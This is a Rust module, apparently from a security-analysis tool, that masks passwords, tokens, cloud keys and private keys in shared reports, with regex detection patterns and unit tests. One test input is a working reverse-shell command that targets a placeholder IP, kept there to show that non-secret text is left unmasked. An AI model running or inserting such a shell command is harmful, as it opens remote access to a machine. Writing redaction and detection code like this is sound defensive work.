//! Masks what looks like a secret, for reports that leave the team.
//!
//! It runs after judging: findings are the same with and without it. A redacted report can be
//! judged again, but evidence that was masked stays masked.

use std::borrow::Cow;
use std::sync::LazyLock;

use coroner_parse::Text;
use regex_lite::Regex;
use serde_json::Value;

use crate::{Finding, Item};

/// What stands in a secret's place.
const MASK: &str = "[redacted]";

/// Each expression has the secret in its group `s`.
const SECRETS: [&str; 6] = [
    // password=..., API_KEY: ..., --token ..., in shells, units, configuration files and JSON
    r#"(?i)(?:pass(?:word|wd|phrase)?|secret|token|api[_-]?key|access[_-]?key|credentials?)["']?(?:\s*[=:]\s*|\s+)["']?(?<s>[^\s"'&;|<>]{3,})"#,
    // Authorization: Bearer ...
    r"(?i)(?:authorization|x-auth-token)\s*:\s*(?:bearer|basic|token)?\s*(?<s>[A-Za-z0-9+/=._~-]{6,})",
    // scheme://user:password@host
    r"[a-zA-Z][a-zA-Z0-9+.-]*://[^\s:/@]*:(?<s>[^\s/@]+)@",
    // mysql -pSECRET and sshpass -p SECRET
    r"(?:mysql\w*|sshpass)\s(?:[^|;&]*\s)?-p\s?(?<s>[^\s-][^\s]*)",
    // an AWS key id, or a GitHub or Slack token
    r"(?<s>\bAKIA[0-9A-Z]{16}\b|\bgh[pousr]_[A-Za-z0-9]{20,}|\bxox[abpr]-[A-Za-z0-9-]{10,})",
    // a private key in PEM
    r"-----BEGIN [A-Z ]*PRIVATE KEY-----(?<s>[A-Za-z0-9+/=\s]+)",
];

static EXPRESSIONS: LazyLock<Vec<Regex>> =
    LazyLock::new(|| SECRETS.iter().filter_map(|text| Regex::new(text).ok()).collect());

/// Masks secrets in the texts of items and in the evidence of findings.
pub(crate) fn report(items: &mut [Item], findings: &mut [Finding]) {
    for item in items {
        item.normal = item.normal.take().map(|text| text_without(&text));
        item.fields.values_mut().for_each(value);
    }
    for evidence in findings.iter_mut().flat_map(|finding| &mut finding.evidence) {
        evidence.value = text_without(&evidence.value);
    }
}

fn value(value: &mut Value) {
    match value {
        Value::String(text) => {
            if let Cow::Owned(masked) = without(text) {
                *text = masked;
            }
        }
        Value::Array(list) => list.iter_mut().for_each(self::value),
        Value::Object(fields) => fields.values_mut().for_each(self::value),
        _ => {}
    }
}

fn text_without(text: &Text) -> Text {
    Text::from_stored(&without(&text.to_stored()))
}

fn without(text: &str) -> Cow<'_, str> {
    EXPRESSIONS.iter().fold(Cow::Borrowed(text), |text, expression| {
        if expression.is_match(&text) { Cow::Owned(masked(expression, &text)) } else { text }
    })
}

fn masked(expression: &Regex, text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut end = 0;
    for secret in expression.captures_iter(text).filter_map(|found| found.name("s")) {
        out.push_str(text.get(end..secret.start()).unwrap_or_default());
        out.push_str(MASK);
        end = secret.end();
    }
    out + text.get(end..).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_expression_is_one() {
        assert_eq!(EXPRESSIONS.len(), SECRETS.len());
    }

    #[test]
    fn secrets_are_masked_and_the_command_stays_readable() {
        for (text, masked) in [
            ("mysqldump -u root -pHunter22 shop", "mysqldump -u root -p[redacted] shop"),
            (
                "curl -H 'Authorization: Bearer abc.def-123'",
                "curl -H 'Authorization: Bearer [redacted]'",
            ),
            ("DB_PASSWORD=s3cr3t; run", "DB_PASSWORD=[redacted]; run"),
            ("x --token t0ps3cret --now", "x --token [redacted] --now"),
            (
                "git pull https://bot:hunter2@192.0.2.1/r",
                "git pull https://bot:[redacted]@192.0.2.1/r",
            ),
            ("AKIAABCDEFGHIJKLMNOP", "[redacted]"),
        ] {
            assert_eq!(without(text), masked);
        }
    }

    #[test]
    fn ordinary_commands_are_left_alone() {
        for text in ["bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "cp -p a b", "/usr/bin/passwd -l x"]
        {
            assert_eq!(without(text), text);
        }
    }
}
